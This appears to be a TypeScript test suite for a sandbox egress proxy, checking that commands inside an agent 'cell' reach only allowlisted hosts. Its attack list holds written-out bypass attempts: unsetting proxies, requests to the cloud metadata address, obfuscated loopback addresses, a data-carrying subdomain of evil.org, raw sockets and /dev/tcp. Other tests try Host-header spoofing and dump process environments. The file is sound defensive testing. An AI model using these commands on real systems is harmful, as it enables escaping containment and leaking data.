// What commands in a real cell can reach with one host allowed: that host, and nothing else by any way.
import assert from "node:assert/strict";
import { once } from "node:events";
import { connect, createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { createCells } from "../../src/broker/cells.ts";
import type { WayOut } from "../../src/broker/broker.ts";
import { createAuthority } from "../../src/egress/authority/authority.ts";
import { attachProxy } from "../../src/egress/proxy/proxy.ts";
import type { EgressEntry } from "../../src/egress/proxy/proxy.ts";
import { allow, egressFor, openFarSide, patternOf, publicAddress } from "../faux/network/way-out.ts";
import { action, agents, cellsOptions, home, leave, never, workspace } from "./room.ts";

const names = ["example.com", "other.example.com", "api.example.com"];
const rules = egressFor(
  allow("example.com"),
  allow("other.example.com"),
  allow("api.example.com", { methods: ["GET"], paths: ["/mine"] }),
);
const far = await openFarSide(names);
const entries: EgressEntry[] = [];
const failures: string[] = [];
const resolved: string[] = [];
const sink = createServer((socket) => {
  socket.on("data", (bytes) => (sunk += bytes.length));
  socket.on("error", () => undefined);
});
let sunk = 0;
let opened = 0;

const cells = createCells({
  ...cellsOptions,
  openWayOut(key, { ended }): WayOut {
    const authority = createAuthority(ended, Date.now());
    const trustFile = join(home, `trust-${(opened += 1)}.pem`);
    writeFileSync(trustFile, `${far.side.certificate}\n${authority.certificate}`);
    let attached: { close(): void } | undefined;
    return {
      trustFile,
      attach(listener) {
        attached = attachProxy(
          {
            rules: () => rules,
            now: Date.now,
            async resolve(host) {
              resolved.push(host);
              return [publicAddress];
            },
            connect: () => connect({ host: "127.0.0.1", port: far.side.port, allowHalfOpen: true }),
            record: (entry) => void entries.push(entry),
            trusted: [far.side.certificate],
          },
          listener,
          { asker: key, authority },
        );
      },
      fail: (reason) => void failures.push(reason),
      close: () => attached?.close(),
    };
  },
});

before(async () => {
  sink.listen(0, "127.0.0.1");
  await once(sink, "listening");
  agents.set("main", {
    workspace,
    access: "rw",
    wayOut: { ended: [patternOf("api.example.com")], rules: "" },
  });
  assert.equal((await cells.probe(never)).kind, "verified");
});
after(async () => {
  sink.close();
  await cells.close();
  await far.close();
  await leave();
});

async function run(command: string): Promise<{ readonly code: number; readonly output: string }> {
  const resource = { command, cwd: ".", timeoutMs: 30_000, terminal: "none", mode: "foreground" } as const;
  const result = await cells.run(action("process.run", resource, {}), () => undefined, never);
  assert(result.kind !== "started");
  return { code: result.exitCode, output: result.output };
}

test("EGR-002 SBX-014 ordinary programs reach the host that is listed, over the listener that the cell handed over", async () => {
  assert.deepEqual(await run("curl -sS https://example.com/a"), { code: 0, output: "from afar" });
  assert.deepEqual(failures, []);
  const script = `fetch("https://example.com/b").then((r) => r.text()).then(console.log)`;
  assert.deepEqual(await run(`/opt/lorica/bin/node -e '${script}' 2>&1`), { code: 0, output: "from afar\n" });
  const python = `import urllib.request as u; print(u.urlopen("https://example.com/c").read().decode())`;
  assert.deepEqual(await run(`python3 -c '${python}'`), { code: 0, output: "from afar\n" });
  assert.equal(
    (await run("curl -sS --socks5-hostname 127.0.0.1:3128 --noproxy x https://example.com/d")).output,
    "from afar",
  );
  await run("git ls-remote https://example.com/repo.git");
  assert.deepEqual(
    far.side.seen.map((line) => line.split("?")[0]),
    [
      "GET example.com/a",
      "GET example.com/b",
      "GET example.com/c",
      "GET example.com/d",
      "GET example.com/repo.git/info/refs",
      "GET example.com/repo.git/HEAD",
    ],
  );
});

test("EGR-009 ADV-009 GAP-021 no way past the proxy: names, addresses, UDP, raw sockets, IPv6, other ports", async () => {
  const { port } = sink.address() as AddressInfo;
  await far.untilQuiet();
  const [bytesBefore, resolvedBefore] = [far.side.bytes, resolved.length];
  const python = (code: string): string => `python3 -c 'import socket as s\n${code}' 2>&1`;
  const attacks = [
    "curl -f -sS -m 5 --noproxy '*' https://example.com/",
    "env -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY curl -sS -m 5 https://example.com/",
    `curl -f -sS -m 5 --noproxy '*' http://127.0.0.1:${port}/`,
    `curl -f -sS -m 5 --noproxy '*' -k https://${publicAddress}/`,
    `curl -f -sS -m 5 -k https://${publicAddress}/`,
    "curl -f -sS -m 5 http://169.254.169.254/latest/meta-data/",
    "curl -f -sS -m 5 -k 'https://[::ffff:127.0.0.1]/'",
    "curl -f -sS -m 5 -k https://127.1/",
    "curl -f -sS -m 5 -k https://2130706433/",
    "curl -f -sS -m 5 https://example.com:22/",
    "curl -f -sS -m 5 https://c2VjcmV0.evil.org/",
    "curl -f -sS -m 5 --connect-to example.com:443:other.example.com:443 https://example.com/",
    "getent hosts example.com",
    python(
      `s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"x", ("127.0.0.53", 53)); s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"x", ("${publicAddress}", 443))`,
    ),
    python(`s.socket(s.AF_INET6, s.SOCK_STREAM).connect(("2606:4700:4700::1111", 443))`),
    python(`s.socket(s.AF_INET, s.SOCK_RAW, 1)`),
    python(`s.socket(s.AF_PACKET, s.SOCK_RAW)`),
    python(`s.socket(40, s.SOCK_STREAM)`),
    python(`s.create_connection(("127.0.0.1", ${port}))`),
    "ip link add d type dummy",
    `exec 3<>/dev/tcp/${publicAddress}/443`,
  ];
  for (const attack of attacks) {
    const { code, output } = await run(attack);
    assert.notEqual(code, 0, `${attack}: ${output}`);
  }
  assert.equal(far.side.bytes, bytesBefore);
  assert.equal(sunk, 0);
  assert.deepEqual(new Set(resolved.slice(resolvedBefore)), new Set(["other.example.com"]));
  // The same program on this side of the wall reaches the sink, and the cell still reaches its host.
  const outside = connect({ host: "127.0.0.1", port });
  outside.write("x");
  await once(sink, "connection");
  outside.destroy();
  assert.equal((await run("curl -sS https://example.com/alive")).output, "from afar");
});

test("the reason for a refusal reaches the program that asked", async () => {
  const { output } = await run("curl -sS -v https://evil.org/ 2>&1 | grep '< HTTP/1.1 403'");
  assert.match(output, /403 evil\.org is not on the list of agent main/);
  const { sessionKey, host, verdict } = entries.at(-1) ?? assert.fail("nothing recorded");
  assert.deepEqual(
    { host, verdict, sessionKey: typeof sessionKey },
    { host: "evil.org", verdict: "deny", sessionKey: "string" },
  );
});

test("where the broker ends the TLS, ordinary programs trust it for that host and the rules see the request", async () => {
  assert.equal((await run("curl -sS https://api.example.com/mine/1")).output, "from afar");
  assert.match((await run("curl -sS https://api.example.com/other")).output, /not among the methods and paths/);
  assert.match((await run("curl -sS -d x=1 https://api.example.com/mine/1")).output, /not among the methods and paths/);
  const strict = `import ssl, urllib.request as u\nc = ssl.create_default_context()\nc.verify_flags |= ssl.VERIFY_X509_STRICT\nprint(u.urlopen("https://api.example.com/mine/2", context=c).read().decode())`;
  assert.equal((await run(`python3 -c '${strict}' 2>&1`)).output, "from afar\n");
  const fronted = await run("curl -sS -H 'Host: evil.org' https://api.example.com/mine/1");
  assert.match(fronted.output, /Host header asks for another name/);
});

test("commands hold neither the listener nor the channel over which it went", async () => {
  const { output } = await run("env; cat /proc/*/environ | tr '\\0' '\\n'; ls /proc | grep -c '^[0-9]'");
  assert.doesNotMatch(output, /NODE_CHANNEL/);
  assert.match(output, /https_proxy=http:\/\/127\.0\.0\.1:3128/);
});
